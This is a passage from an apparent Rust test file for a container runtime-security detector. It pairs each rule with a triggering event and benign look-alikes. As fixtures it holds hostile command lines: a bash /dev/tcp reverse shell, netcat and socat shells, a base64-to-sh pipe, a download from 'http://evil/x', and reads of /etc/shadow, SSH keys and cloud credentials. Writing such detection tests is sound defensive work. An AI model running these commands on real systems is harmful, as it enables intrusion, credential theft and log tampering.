//! The default pack, rule by rule: each rule fires on an event showing its
//! technique and stays quiet on at least one close look-alike (often the
//! known-benign process its exceptions name). The table must cover every
//! rule of the pack.

#![allow(clippy::unwrap_used, reason = "test assertions")]

use std::collections::BTreeSet;

use vigil_detectors::{RulesConfig, engine};
use vigil_proto::v1::{
    AddressFamily, Ancestor, Args, Event, EventType, FdKind, PodMeta, SocketAddress,
};

const CONTAINER: &str = "3f4a1c2b9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a";
const O_WRONLY: u32 = 0o1;
const O_RDWR: u32 = 0o2;
const O_CREAT: u32 = 0o100;
const O_TRUNC: u32 = 0o1000;
const CAP_SYS_ADMIN: u64 = 1 << 21;

/// An event under construction: in a container, parent `app-server`.
#[derive(Clone)]
struct E(Event);

fn base(kind: EventType, syscall: &str, comm: &str) -> E {
    E(Event {
        r#type: kind as i32,
        syscall: syscall.into(),
        comm: comm.into(),
        exe_path: format!("/usr/bin/{comm}"),
        cmdline: vec![comm.into()],
        pid: 4242,
        uid: 0,
        login_uid: u32::MAX,
        container_id: CONTAINER.into(),
        node: "node-1".into(),
        ancestors: vec![
            Ancestor {
                pid: 100,
                comm: "app-server".into(),
                exe_path: "/usr/bin/app-server".into(),
                cmdline: vec!["app-server".into()],
            },
            Ancestor {
                pid: 1,
                comm: "systemd".into(),
                ..Default::default()
            },
        ],
        pod: Some(PodMeta {
            name: "web-1".into(),
            namespace: "shop".into(),
            image: "ghcr.io/acme/web:1.4".into(),
            service_account: "web".into(),
            ..Default::default()
        }),
        args: Some(Args::default()),
        ..Default::default()
    })
}

/// A successful exec of `command` (first word is the program name).
fn exec(command: &str) -> E {
    let argv: Vec<String> = command.split(' ').map(str::to_owned).collect();
    let name = argv[0].rsplit('/').next().unwrap().to_owned();
    let mut e = base(EventType::Exec, "execve", &name);
    if argv[0].starts_with('/') {
        e.0.exe_path = argv[0].clone();
    }
    e.0.cmdline = argv;
    e
}

fn open(comm: &str, path: &str, flags: u32) -> E {
    base(EventType::Open, "openat", comm)
        .path(path)
        .flags(flags)
        .ret(3)
}

fn connect(comm: &str, ip: &str, port: u32) -> E {
    base(EventType::Connect, "connect", comm).peer(ip, port)
}

impl E {
    fn args(&mut self) -> &mut Args {
        self.0.args.get_or_insert_with(Args::default)
    }
    fn path(mut self, path: &str) -> Self {
        self.args().path = path.into();
        self
    }
    fn target(mut self, path: &str) -> Self {
        self.args().target_path = path.into();
        self
    }
    fn flags(mut self, flags: u32) -> Self {
        self.args().flags = flags;
        self
    }
    fn mode(mut self, mode: u32) -> Self {
        self.args().mode = mode;
        self
    }
    fn request(mut self, request: i64) -> Self {
        self.args().request = request;
        self
    }
    fn name(mut self, name: &str) -> Self {
        self.args().name = name.into();
        self
    }
    fn ids(mut self, ids: &[i64]) -> Self {
        self.args().ids = ids.to_vec();
        self
    }
    fn fs_type(mut self, fs: &str) -> Self {
        self.args().fs_type = fs.into();
        self
    }
    fn dup(mut self, kind: FdKind, new_fd: i32) -> Self {
        self.args().fd_kind = kind as i32;
        self.args().new_fd = new_fd;
        self
    }
    fn peer(mut self, ip: &str, port: u32) -> Self {
        let family = if ip.contains(':') {
            AddressFamily::Inet6
        } else {
            AddressFamily::Inet
        };
        self.args().address = Some(SocketAddress {
            family: family as i32,
            ip: ip.into(),
            port,
            ..Default::default()
        });
        self
    }
    fn unix(mut self, path: &str) -> Self {
        self.args().address = Some(SocketAddress {
            family: AddressFamily::Unix as i32,
            unix_path: path.into(),
            ..Default::default()
        });
        self
    }
    fn local(mut self, ip: &str, port: u32) -> Self {
        self.args().local_address = Some(SocketAddress {
            family: AddressFamily::Inet as i32,
            ip: ip.into(),
            port,
            ..Default::default()
        });
        self
    }
    fn socket(mut self, domain: i32, socket_type: i32) -> Self {
        self.args().domain = domain;
        self.args().socket_type = socket_type;
        self
    }
    fn cap_arg(mut self, mask: u64) -> Self {
        self.args().cap_effective = mask;
        self
    }
    fn ret(mut self, value: i64) -> Self {
        self.0.return_value = value;
        self
    }
    /// Marked by the collector as a container runtime's own set-up.
    fn runtime_setup(mut self) -> Self {
        self.0.container_runtime_setup = true;
        self
    }
    fn host(mut self) -> Self {
        self.0.container_id.clear();
        self.0.pod = None;
        self
    }
    fn parent(mut self, comm: &str) -> Self {
        self.0.ancestors.insert(
            0,
            Ancestor {
                pid: 4000,
                comm: comm.into(),
                exe_path: format!("/usr/bin/{comm}"),
                cmdline: vec![comm.into()],
            },
        );
        self
    }
    fn grandparent(mut self, comm: &str) -> Self {
        self.0.ancestors.insert(
            1,
            Ancestor {
                pid: 3000,
                comm: comm.into(),
                ..Default::default()
            },
        );
        self
    }
    fn tty(mut self) -> Self {
        self.0.tty = 34816;
        self
    }
    fn uid(mut self, uid: u32) -> Self {
        self.0.uid = uid;
        self
    }
    fn caps(mut self, mask: u64) -> Self {
        self.0.cap_effective = mask;
        self
    }
    fn exe(mut self, path: &str) -> Self {
        self.0.exe_path = path.into();
        self
    }
    fn ns(mut self, namespace: &str) -> Self {
        if let Some(pod) = self.0.pod.as_mut() {
            pod.namespace = namespace.into();
        }
        self
    }
    fn image(mut self, image: &str) -> Self {
        if let Some(pod) = self.0.pod.as_mut() {
            pod.image = image.into();
        }
        self
    }
}

fn ev(kind: EventType, syscall: &str, comm: &str) -> E {
    base(kind, syscall, comm)
}

/// (rule, positive, negatives)
fn cases() -> Vec<(&'static str, E, Vec<E>)> {
    use EventType as T;
    let sh = || exec("sh -c id");
    vec![
        // --- process.yaml
        (
            "Shell spawned in container",
            sh(),
            vec![
                sh().host(),
                sh().parent("bash"),
                exec("ls -l"),
                sh().parent("runc"),
            ],
        ),
        (
            "Interactive terminal in container",
            exec("bash").tty(),
            vec![
                exec("bash"),
                exec("bash").tty().host(),
                exec("bash").tty().ns("debug-sandbox"),
            ],
        ),
        (
            "Shell spawned by web server",
            sh().parent("nginx"),
            vec![
                sh(),
                exec("ls").parent("nginx"),
                exec("sh -c /usr/sbin/sendmail -t").parent("php-fpm"),
            ],
        ),
        (
            "Shell spawned by database",
            sh().parent("postgres"),
            vec![
                sh().parent("python3"),
                exec("sh -c test ! -f /var/lib/postgresql/archive/x").parent("postgres"),
            ],
        ),
        (
            "Reverse shell via socket redirection",
            ev(T::Dup, "dup2", "bash").dup(FdKind::SocketInet, 0),
            vec![
                ev(T::Dup, "dup2", "bash").dup(FdKind::SocketInet, 5),
                ev(T::Dup, "dup2", "bash").dup(FdKind::Pipe, 1),
                ev(T::Dup, "dup2", "xinetd").dup(FdKind::SocketInet, 0),
            ],
        ),
        (
            "Bash network redirection",
            exec("bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            vec![
                exec("bash -c echo /dev/null"),
                exec("bash -c cat </dev/tcp/127.0.0.1/8080").parent("kubelet"),
            ],
        ),
        (
            "Netcat with command execution",
            exec("nc -e /bin/sh 10.0.0.1 4444"),
            vec![
                exec("nc -z 10.0.0.1 80"),
                exec("nc -e /bin/sh 10.0.0.1 4444").parent("vigil-e2e"),
            ],
        ),
        (
            "Socat with program execution",
            exec("socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
            vec![
                exec("socat TCP-LISTEN:80 TCP:10.0.0.2:80"),
                exec("socat TCP:1.2.3.4:1 EXEC:/bin/sh").parent("supervisord"),
            ],
        ),
        (
            "Shell script piped from the network",
            exec("sh").parent("curl"),
            vec![
                exec("sh").parent("bash"),
                exec("sh").parent("curl").grandparent("cloud-init"),
            ],
        ),
        (
            "Base64 payload decoded by shell",
            exec("sh -c echo aWQK | base64 -d | sh"),
            vec![
                exec("sh -c base64 -d x > y"),
                exec("sh -c echo aWQK | base64 -d | sh").parent("ansible-playbook"),
            ],
        ),
        (
            "Network tool launched in container",
            exec("nmap -sS 10.0.0.0/24"),
            vec![
                exec("nmap -sS 10.0.0.0/24").host(),
                exec("curl http://x"),
                exec("nc x 1").image("nicolaka/netshoot:latest"),
            ],
        ),
        (
            "Port scanner executed",
            exec("masscan 10.0.0.0/8").host(),
            vec![
                exec("ping 10.0.0.1"),
                exec("nmap x").ns("security-scanning"),
            ],
        ),
        (
            "Package manager in container",
            exec("apt-get install -y nmap"),
            vec![
                exec("apt-get install -y nmap").host(),
                exec("apk add x").ns("ci"),
            ],
        ),
        (
            "Downloader writing to temporary directory",
            exec("wget -O /tmp/x http://evil/x"),
            vec![
                exec("wget -O /app/x http://x"),
                exec("curl -o /tmp/x http://x").parent("pip"),
            ],
        ),
        (
            "Container management tool in container",
            exec("docker run --privileged -v /:/host alpine"),
            vec![exec("docker ps").host(), exec("crictl ps").ns("ci")],
        ),
        (
            "Kubernetes client in container",
            exec("kubectl get secrets -A"),
            vec![
                exec("kubectl get pods").host(),
                exec("kubectl apply -f x").ns("argocd"),
            ],
        ),
        (
            "Reconnaissance commands in container",
            exec("whoami").tty(),
            vec![
                exec("whoami"),
                exec("whoami").tty().host(),
                exec("id").tty().ns("debug-sandbox"),
            ],
        ),
        (
            "Executable run from /tmp",
            exec("/tmp/x"),
            vec![
                exec("/usr/bin/x"),
                exec("/tmp/go-build1/a.out").parent("go"),
            ],
        ),
        (
            "Executable run from /dev/shm",
            exec("/dev/shm/.x").host(),
            vec![
                exec("/dev/shmx/y"),
                exec("/dev/shm/chrome-helper").parent("chrome"),
            ],
        ),
        (
            "Fileless execution from memfd",
            exec("x").exe("/memfd:payload (deleted)"),
            vec![
                exec("x"),
                exec("runc init")
                    .exe("/memfd:runc_cloned:/proc/self/exe")
                    .parent("runc")
                    .host(),
                exec("runc init")
                    .exe("/memfd:runc_cloned:/proc/self/exe")
                    .runtime_setup(),
            ],
        ),
        (
            "Anonymous memory file created in container",
            ev(T::MemfdCreate, "memfd_create", "python3").name("x"),
            vec![
                ev(T::MemfdCreate, "memfd_create", "python3").host(),
                ev(T::MemfdCreate, "memfd_create", "java"),
            ],
        ),
        (
            "Executable anonymous memory in container",
            ev(T::MemoryExec, "mprotect", "python3"),
            vec![
                ev(T::MemoryExec, "mprotect", "python3").host(),
                ev(T::MemoryExec, "mprotect", "node"),
            ],
        ),
        (
            "Hidden executable run",
            exec("/var/tmp/.ICE-unix/.x"),
            vec![
                exec("/usr/bin/x"),
                exec("/root/.cargo/bin/rustc"),
                exec("/app/.venv/bin/python"),
            ],
        ),
        (
            "Executable bit set in temporary directory",
            ev(T::Chmod, "fchmodat", "chmod")
                .path("/tmp/payload")
                .mode(0o755),
            vec![
                ev(T::Chmod, "fchmodat", "chmod")
                    .path("/tmp/payload")
                    .mode(0o644),
                ev(T::Chmod, "fchmodat", "chmod")
                    .path("/app/bin")
                    .mode(0o755),
                ev(T::Chmod, "fchmodat", "go")
                    .path("/tmp/go-build/exe")
                    .mode(0o755),
            ],
        ),
        (
            "Setuid or setgid bit set",
            ev(T::Chmod, "fchmodat", "chmod")
                .path("/tmp/sh")
                .mode(0o4755),
            vec![
                ev(T::Chmod, "fchmodat", "chmod")
                    .path("/tmp/sh")
                    .mode(0o755),
                ev(T::Chmod, "fchmodat", "dpkg")
                    .path("/usr/bin/passwd")
                    .mode(0o4755),
            ],
        ),
        (
            "Non-root process became root",
            ev(T::Setuid, "setuid", "exploit").uid(1000).ids(&[0]),
            vec![
                ev(T::Setuid, "setuid", "exploit").uid(0).ids(&[0]),
                ev(T::Setuid, "setuid", "exploit").uid(1000).ids(&[1001]),
                ev(T::Setuid, "setuid", "sudo").uid(1000).ids(&[0]),
                ev(T::Setuid, "setuid", "exploit")
                    .uid(1000)
                    .ids(&[0])
                    .ret(-1),
            ],
        ),
        (
            "Privilege tool run in container",
            exec("sudo -i"),
            vec![
                exec("sudo -i").host(),
                exec("su app -c run").parent("docker-entrypoint.sh"),
            ],
        ),
        (
            "Sudoers modified",
            open("tee", "/etc/sudoers.d/x", O_WRONLY | O_CREAT),
            vec![
                open("cat", "/etc/sudoers.d/x", 0),
                open("visudo", "/etc/sudoers", O_WRONLY),
            ],
        ),
        (
            "Sensitive capability gained",
            ev(T::Capset, "capset", "x").cap_arg(CAP_SYS_ADMIN),
            vec![
                ev(T::Capset, "capset", "x").cap_arg(1),
                ev(T::Capset, "capset", "runc").cap_arg(CAP_SYS_ADMIN),
                ev(T::Capset, "capset", "runc:[2:INIT]")
                    .cap_arg(CAP_SYS_ADMIN)
                    .runtime_setup(),
            ],
        ),
        (
            "Shell with CAP_SYS_ADMIN in container",
            sh().caps(CAP_SYS_ADMIN).parent("python3"),
            vec![
                sh().parent("python3"),
                sh().caps(CAP_SYS_ADMIN).ns("kube-system"),
            ],
        ),
        (
            "Exploit primitive userfaultfd in container",
            ev(T::Userfaultfd, "userfaultfd", "x"),
            vec![
                ev(T::Userfaultfd, "userfaultfd", "x").host(),
                ev(T::Userfaultfd, "userfaultfd", "criu"),
            ],
        ),
        (
            "io_uring set up in container",
            ev(T::IoUringSetup, "io_uring_setup", "x"),
            vec![
                ev(T::IoUringSetup, "io_uring_setup", "x").host(),
                ev(T::IoUringSetup, "io_uring_setup", "postgres"),
            ],
        ),
        (
            "Kernel keyring used in container",
            ev(T::Keyctl, "keyctl", "x"),
            vec![
                ev(T::Keyctl, "keyctl", "x").host(),
                ev(T::Keyctl, "keyctl", "kinit"),
            ],
        ),
        (
            "Process renamed itself",
            ev(T::Prctl, "prctl", "x").request(15).name("sshd"),
            vec![
                ev(T::Prctl, "prctl", "x").request(38),
                ev(T::Prctl, "prctl", "java").request(15).name("GC Thread"),
            ],
        ),
        (
            "Process disguised as kernel thread",
            ev(T::Prctl, "prctl", "x")
                .request(15)
                .name("kworker/0:1")
                .host(),
            vec![
                ev(T::Prctl, "prctl", "x").request(15).name("worker"),
                ev(T::Prctl, "prctl", "x")
                    .request(15)
                    .name("kworker/0:1")
                    .exe("/usr/lib/vigil/kthread-test"),
            ],
        ),
        (
            "Secure deletion tool run",
            exec("shred -u /var/log/auth.log"),
            vec![exec("rm /tmp/x"), exec("shred /dev/sdb").parent("nwipe")],
        ),
        (
            "File timestamps forged",
            exec("touch -r /bin/ls /tmp/x"),
            vec![exec("touch /tmp/x"), exec("touch -r a b").parent("make")],
        ),
        (
            "Firewall changed in container",
            exec("iptables -F"),
            vec![
                exec("iptables -F").host(),
                exec("iptables -A x").ns("kube-system"),
            ],
        ),
        (
            "Security module disabled",
            exec("setenforce 0").host(),
            vec![
                exec("setenforce 1").host(),
                exec("aa-complain x").parent("puppet"),
            ],
        ),
        (
            "Crypto miner executed",
            exec("xmrig -o pool:3333"),
            vec![exec("xmr-check"), exec("xmrig").ns("sanctioned-mining")],
        ),
        (
            "Stratum mining protocol on command line",
            exec("kworker -o stratum+tcp://pool.example:3333"),
            vec![
                exec("curl https://stratum.example"),
                exec("x -o stratum+tcp://p:1").ns("sanctioned-mining"),
            ],
        ),
        (
            "Miner-style command line",
            exec("/tmp/.x/systemd --donate-level 1 -o p:443"),
            vec![
                exec("app --level 1"),
                exec("x --donate-level 1").ns("sanctioned-mining"),
            ],
        ),
        // --- files.yaml
        (
            "Read of /etc/shadow",
            open("tail", "/etc/shadow", 0),
            vec![
                open("tail", "/etc/shadow-", 0),
                open("tail", "/etc/shadow", O_WRONLY),
                open("sshd", "/etc/shadow", 0),
            ],
        ),
        (
            "Read of other account secrets",
            open("cat", "/etc/gshadow", 0),
            vec![
                open("cat", "/etc/group", 0),
                open("visudo", "/etc/sudoers", 0),
            ],
        ),
        (
            "SSH private key read",
            open("cat", "/root/.ssh/id_rsa", 0),
            vec![
                open("cat", "/root/.ssh/id_rsa.pub", 0),
                open("ssh", "/root/.ssh/id_rsa", 0),
            ],
        ),
        (
            "SSH host key read",
            open("cat", "/etc/ssh/ssh_host_ed25519_key", 0),
            vec![
                open("cat", "/etc/ssh/ssh_host_ed25519_key.pub", 0),
                open("sshd", "/etc/ssh/ssh_host_rsa_key", 0),
            ],
        ),
        (
            "Cloud credentials file read",
            open("cat", "/root/.aws/credentials", 0),
            vec![
                open("cat", "/root/.aws/credentials.bak", 0),
                open("aws", "/root/.aws/credentials", 0),
            ],
        ),
        (
            "Service account token read by unexpected process",
            open(
                "cat",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                0,
            ),
            vec![
                open(
                    "app",
                    "/var/run/secrets/kubernetes.io/serviceaccount/token",
                    0,
                ),
                open(
                    "cat",
                    "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
                    0,
                ),
                open("sh", "/run/secrets/kubernetes.io/serviceaccount/token", 0)
                    .parent("vault-agent"),
            ],
        ),
        (
            "Search for credentials",
            exec("grep -r PRIVATE KEY /"),
            vec![
                exec("grep -r TODO /src"),
                exec("grep -r id_rsa /").parent("gitleaks"),
            ],
        ),
        (
            "Process memory read through procfs",
            open("dumper", "/proc/1234/mem", 0),
            vec![
                open("dumper", "/proc/self/mem", 0),
                open("gdb", "/proc/1234/mem", 0),
            ],
        ),
        (
            "Process environment read",
            open("cat", "/proc/1/environ", 0),
            vec![
                open("cat", "/proc/self/environ", 0),
                open("app", "/proc/1/environ", 0),
                open("cat", "/proc/1/environ", 0).parent("tini"),
            ],
        ),
        (
            "Write below binary directory",
            open("cp", "/usr/bin/ls", O_WRONLY | O_TRUNC),
            vec![
                open("cp", "/usr/bin/ls", 0),
                open("cp", "/usr/binx/ls", O_WRONLY),
                open("dpkg", "/usr/bin/ls", O_WRONLY),
            ],
        ),
        (
            "Binary replaced or removed",
            ev(T::Rename, "renameat2", "mv")
                .path("/tmp/ls")
                .target("/bin/ls"),
            vec![
                ev(T::Rename, "renameat2", "mv")
                    .path("/bin/ls")
                    .target("/tmp/ls"),
                ev(T::Unlink, "unlinkat", "dpkg").path("/usr/bin/x"),
            ],
        ),
        (
            "Write below /etc in container",
            open("sed", "/etc/hosts", O_RDWR),
            vec![
                open("sed", "/etc/hosts", O_RDWR).host(),
                open("sed", "/etc/hosts", 0),
                open("apk", "/etc/apk/world", O_WRONLY),
            ],
        ),
        (
            "Account database modified",
            open("echo", "/etc/passwd", O_WRONLY),
            vec![
                open("cat", "/etc/passwd", 0),
                open("useradd", "/etc/passwd", O_WRONLY),
            ],
        ),
        (
            "Write below /boot",
            open("cp", "/boot/vmlinuz", O_WRONLY).host(),
            vec![
                open("cat", "/boot/vmlinuz", 0).host(),
                open("update-initramfs", "/boot/initrd.img", O_WRONLY).host(),
            ],
        ),
        (
            "Write below kernel modules directory",
            open("cp", "/lib/modules/6.1/extra/rk.ko", O_WRONLY | O_CREAT).host(),
            vec![
                open("modprobe", "/lib/modules/6.1/modules.dep", 0).host(),
                open("depmod", "/lib/modules/6.1/modules.dep", O_WRONLY).host(),
            ],
        ),
        (
            "Dynamic linker preload configured",
            open("sh", "/etc/ld.so.preload", O_WRONLY | O_CREAT),
            vec![
                open("ld.so", "/etc/ld.so.preload", 0),
                open("dpkg", "/etc/ld.so.preload", O_WRONLY),
            ],
        ),
        (
            "Cron job created",
            open("sh", "/etc/cron.d/backdoor", O_WRONLY | O_CREAT),
            vec![
                open("cron", "/etc/cron.d/backdoor", 0),
                open("dpkg", "/etc/cron.daily/x", O_WRONLY),
            ],
        ),
        (
            "Crontab edited in container",
            exec("crontab /tmp/c"),
            vec![exec("crontab /tmp/c").host(), exec("crontab -l")],
        ),
        (
            "Shell startup file modified",
            open("sh", "/root/.bashrc", O_WRONLY | O_TRUNC),
            vec![
                open("bash", "/root/.bashrc", 0),
                open("useradd", "/home/u/.bashrc", O_WRONLY | O_CREAT),
            ],
        ),
        (
            "Systemd unit created or changed",
            open("sh", "/etc/systemd/system/evil.service", O_WRONLY | O_CREAT).host(),
            vec![
                open("systemd", "/etc/systemd/system/x.service", 0).host(),
                open("systemctl", "/etc/systemd/system/x.service", O_WRONLY).host(),
            ],
        ),
        (
            "SSH authorized keys modified",
            open("sh", "/root/.ssh/authorized_keys", O_WRONLY | O_CREAT),
            vec![
                open("sshd", "/root/.ssh/authorized_keys", 0),
                open("ssh-copy-id", "/root/.ssh/authorized_keys", O_WRONLY),
            ],
        ),
        (
            "Init script modified",
            open("sh", "/etc/init.d/x", O_WRONLY | O_CREAT).host(),
            vec![
                open("sh", "/etc/init.d/x", 0).host(),
                open("update-rc.d", "/etc/init.d/x", O_WRONLY).host(),
            ],
        ),
        (
            "Log file truncated",
            open("sh", "/var/log/auth.log", O_WRONLY | O_TRUNC),
            vec![
                open("sh", "/var/log/auth.log", O_WRONLY),
                open("logrotate", "/var/log/auth.log", O_WRONLY | O_TRUNC),
            ],
        ),
        (
            "Log file deleted",
            ev(T::Unlink, "unlinkat", "rm").path("/var/log/auth.log"),
            vec![
                ev(T::Unlink, "unlinkat", "rm").path("/tmp/auth.log"),
                ev(T::Unlink, "unlinkat", "logrotate").path("/var/log/auth.log.5"),
            ],
        ),
        (
            "Shell history deleted or truncated",
            ev(T::Unlink, "unlinkat", "rm").path("/root/.bash_history"),
            vec![
                ev(T::Unlink, "unlinkat", "rm").path("/root/.bashrc"),
                open("bash", "/root/.bash_history", O_WRONLY | O_TRUNC),
            ],
        ),
        (
            "Shell history linked to /dev/null",
            ev(T::Symlink, "symlinkat", "ln")
                .path("/dev/null")
                .target("/root/.bash_history"),
            vec![
                ev(T::Symlink, "symlinkat", "ln")
                    .path("/var/log/x")
                    .target("/root/.bash_history"),
                ev(T::Symlink, "symlinkat", "ln")
                    .path("/dev/null")
                    .target("/root/.bash_history")
                    .parent("buildkitd"),
            ],
        ),
        // --- escape.yaml
        (
            "Mount in container",
            ev(T::Mount, "mount", "mount")
                .path("/dev/sda1")
                .target("/mnt")
                .fs_type("ext4"),
            vec![
                ev(T::Mount, "mount", "mount").host(),
                ev(T::Mount, "mount", "runc:[2:INIT]").runtime_setup(),
            ],
        ),
        (
            "Cgroup filesystem mounted in container",
            ev(T::Mount, "mount", "mount")
                .path("cgroup")
                .target("/tmp/cg")
                .fs_type("cgroup"),
            vec![
                ev(T::Mount, "mount", "mount").fs_type("tmpfs"),
                ev(T::Mount, "mount", "systemd").fs_type("cgroup2"),
            ],
        ),
        (
            "Mount utility run in container",
            exec("mount /dev/sda1 /mnt"),
            vec![exec("mount /dev/sda1 /mnt").host(), exec("mount")],
        ),
        (
            "Cgroup release agent written",
            open("sh", "/tmp/cg/release_agent", O_WRONLY),
            vec![
                open("cat", "/tmp/cg/release_agent", 0),
                open("systemd", "/sys/fs/cgroup/release_agent", O_WRONLY),
            ],
        ),
        (
            "Core pattern written",
            open("sh", "/proc/sys/kernel/core_pattern", O_WRONLY),
            vec![
                open("cat", "/proc/sys/kernel/core_pattern", 0),
                open("systemd-sysctl", "/proc/sys/kernel/core_pattern", O_WRONLY),
            ],
        ),
        (
            "Kernel parameter changed from container",
            open("sh", "/proc/sys/net/ipv4/ip_forward", O_WRONLY),
            vec![
                open("sh", "/proc/sys/net/ipv4/ip_forward", O_WRONLY).host(),
                open("sh", "/proc/sys/net/x", O_WRONLY).ns("kube-system"),
            ],
        ),
        (
            "Container runtime socket connected",
            ev(T::Connect, "connect", "curl").unix("/var/run/docker.sock"),
            vec![
                ev(T::Connect, "connect", "curl").unix("/var/run/app.sock"),
                ev(T::Connect, "connect", "kubelet").unix("/run/containerd/containerd.sock"),
            ],
        ),
        (
            "Namespace entered",
            ev(T::Setns, "setns", "x"),
            vec![
                ev(T::Setns, "setns", "x").host(),
                ev(T::Setns, "setns", "runc:[1:CHILD]").runtime_setup(),
            ],
        ),
        (
            "Nsenter executed",
            exec("nsenter -t 1 -m -u -i -n -p sh"),
            vec![
                exec("unshare -r sh"),
                exec("nsenter -t 1 -n ip a").parent("kubelet"),
            ],
        ),
        (
            "User namespace created in container",
            ev(T::Unshare, "unshare", "x").flags(0x1000_0000),
            vec![
                ev(T::Unshare, "unshare", "x").flags(0x1000_0000).host(),
                ev(T::Unshare, "unshare", "x").flags(0x2_0000),
                ev(T::Unshare, "unshare", "chrome").flags(0x1000_0000),
            ],
        ),
        (
            "Mount namespace created in container",
            ev(T::Unshare, "unshare", "x").flags(0x2_0000),
            vec![
                ev(T::Unshare, "unshare", "x").flags(0x0400_0000),
                ev(T::Unshare, "unshare", "buildah").flags(0x2_0000),
            ],
        ),
        (
            "Chroot in container",
            ev(T::Chroot, "chroot", "chroot").path("/host"),
            vec![
                ev(T::Chroot, "chroot", "chroot").path("/host").host(),
                ev(T::Chroot, "chroot", "sshd").path("/run/sshd"),
            ],
        ),
        (
            "Pivot root outside container runtime",
            ev(T::PivotRoot, "pivot_root", "x").path("/new"),
            vec![
                ev(T::PivotRoot, "pivot_root", "runc").path("/new").host(),
                ev(T::PivotRoot, "pivot_root", "runc:[2:INIT]")
                    .path("/new")
                    .runtime_setup(),
            ],
        ),
        (
            "Host root accessed through procfs",
            open("cat", "/proc/1/root/etc/shadow", 0),
            vec![
                open("cat", "/proc/self/root/etc/hosts", 0),
                open("cat", "/proc/1/root/etc/shadow", 0).host(),
                open("cadvisor", "/proc/1/root/x", 0),
            ],
        ),
        (
            "Process memory written through procfs",
            open("x", "/proc/77/mem", O_RDWR),
            vec![
                open("x", "/proc/77/maps", O_RDWR),
                open("gdb", "/proc/77/mem", O_RDWR),
            ],
        ),
        (
            "Debugfs run",
            exec("debugfs -w /dev/sda1"),
            vec![
                exec("debugfs-tool"),
                exec("debugfs /dev/sda1").parent("e2fsck"),
            ],
        ),
        (
            "Kernel module loaded",
            ev(T::ModuleLoad, "finit_module", "insmod")
                .name("rk")
                .host(),
            vec![
                ev(T::ModuleUnload, "delete_module", "x"),
                ev(T::ModuleLoad, "finit_module", "systemd-modules-load").host(),
            ],
        ),
        (
            "Kernel module unloaded",
            ev(T::ModuleUnload, "delete_module", "rmmod").name("audit"),
            vec![
                ev(T::ModuleLoad, "finit_module", "rmmod"),
                ev(T::ModuleUnload, "delete_module", "kmod"),
            ],
        ),
        (
            "Kernel module tool run in container",
            exec("insmod rk.ko"),
            vec![
                exec("insmod rk.ko").host(),
                exec("modprobe x").ns("kube-system"),
            ],
        ),
        (
            "BPF program loaded from container",
            ev(T::Bpf, "bpf", "x").request(5),
            vec![
                ev(T::Bpf, "bpf", "x").request(1),
                ev(T::Bpf, "bpf", "x").request(5).host(),
                ev(T::Bpf, "bpf", "cilium-agent").request(5),
            ],
        ),
        (
            "Ptrace attach to process",
            ev(T::Ptrace, "ptrace", "x").request(16),
            vec![
                ev(T::Ptrace, "ptrace", "x").request(0),
                ev(T::Ptrace, "ptrace", "strace").request(16902),
            ],
        ),
        (
            "Ptrace code injection",
            ev(T::Ptrace, "ptrace", "x").request(4),
            vec![
                ev(T::Ptrace, "ptrace", "x").request(2),
                ev(T::Ptrace, "ptrace", "gdb").request(5),
            ],
        ),
        (
            "Memory written into another process",
            ev(T::ProcessVmWritev, "process_vm_writev", "x").ret(64),
            vec![
                ev(T::ProcessVmWritev, "process_vm_writev", "x").ret(-1),
                ev(T::ProcessVmWritev, "process_vm_writev", "criu").ret(64),
            ],
        ),
        // --- network.yaml
        (
            "Outbound connection to suspicious port",
            connect("sh", "203.0.113.9", 4444),
            vec![
                connect("sh", "203.0.113.9", 443),
                connect("sh", "127.0.0.1", 4444),
                connect("irc", "10.0.0.10", 6667),
            ],
        ),
        (
            "Connection to mining pool port",
            connect("x", "203.0.113.9", 3333),
            vec![
                connect("x", "203.0.113.9", 3334),
                connect("bitcoind", "203.0.113.9", 8333),
            ],
        ),
        (
            "Connection to Tor port",
            connect("x", "203.0.113.9", 9050),
            vec![
                connect("x", "127.0.0.1", 9050),
                connect("tor", "203.0.113.9", 9001),
            ],
        ),
        (
            "Cloud metadata endpoint contacted from container",
            connect("curl", "169.254.169.254", 80),
            vec![
                connect("curl", "169.254.169.254", 80).host(),
                connect("curl", "169.254.169.253", 80),
                connect("aws-node", "169.254.169.254", 80),
            ],
        ),
        (
            "Kubernetes API contacted from container",
            connect("curl", "10.96.0.1", 443),
            vec![
                connect("curl", "10.96.0.1", 80),
                connect("coredns", "10.96.0.1", 443),
                connect("curl", "10.96.0.1", 443).ns("kube-system"),
            ],
        ),
        (
            "Unexpected listening port in container",
            ev(T::Listen, "listen", "x").local("0.0.0.0", 7000),
            vec![
                ev(T::Listen, "listen", "x").local("0.0.0.0", 8080),
                ev(T::Listen, "listen", "redis-server").local("0.0.0.0", 6379),
            ],
        ),
        (
            "Bind shell port opened",
            ev(T::Listen, "listen", "nc").local("0.0.0.0", 4444),
            vec![
                ev(T::Listen, "listen", "nc").local("0.0.0.0", 4445),
                ev(T::Listen, "listen", "ircd").local("0.0.0.0", 6667),
            ],
        ),
        (
            "Outbound connection to unusual port from container",
            connect("x", "203.0.113.9", 8765),
            vec![
                connect("x", "203.0.113.9", 443),
                connect("x", "10.1.2.3", 8765),
                connect("x", "203.0.113.9", 8765).host(),
                connect("pip", "203.0.113.9", 8765),
            ],
        ),
        (
            "Outbound SSH from container",
            connect("ssh", "203.0.113.9", 22),
            vec![
                connect("ssh", "203.0.113.9", 2222),
                connect("git", "203.0.113.9", 22),
            ],
        ),
        (
            "Raw socket opened in container",
            ev(T::Socket, "socket", "x").socket(2, 3),
            vec![
                ev(T::Socket, "socket", "x").socket(2, 1),
                ev(T::Socket, "socket", "ping").socket(2, 3),
            ],
        ),
        (
            "Packet capture started",
            exec("tcpdump -i any"),
            vec![
                exec("tcpflow"),
                exec("tcpdump -i any").image("nicolaka/netshoot"),
            ],
        ),
        (
            "Inbound connection from external address to container shell",
            ev(T::Accept, "accept4", "sh")
                .peer("203.0.113.9", 51000)
                .local("10.0.0.5", 4444),
            vec![
                ev(T::Accept, "accept4", "nginx").peer("203.0.113.9", 51000),
                ev(T::Accept, "accept4", "sh").peer("127.0.0.1", 51000),
            ],
        ),
        (
            "Network tool connection from container",
            connect("ncat", "203.0.113.9", 443),
            vec![
                connect("curl", "203.0.113.9", 443),
